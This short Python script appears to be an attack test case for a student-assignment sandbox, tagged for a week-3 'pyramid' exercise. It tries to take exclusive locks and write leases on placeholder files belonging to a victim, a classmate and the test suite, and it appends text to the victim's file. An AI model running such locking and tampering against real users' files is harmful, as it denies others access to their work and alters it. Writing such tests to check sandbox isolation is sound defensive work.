"""Locks others' files, so that nobody can work with them."""
# attack: week=03 exercise=pyramid
import fcntl
import os

for path in ("@VICTIM@", "@CLASSMATE@", "@SUITE@"):
    for flags in (os.O_RDONLY, os.O_WRONLY, os.O_PATH):
        try:
            descriptor = os.open(path, flags)
            fcntl.flock(descriptor, fcntl.LOCK_EX | fcntl.LOCK_NB)
            fcntl.fcntl(descriptor, fcntl.F_SETLEASE, fcntl.F_WRLCK)
            open("@VICTIM@", "a").write("locked")
        except OSError as error:
            print("refused", error)
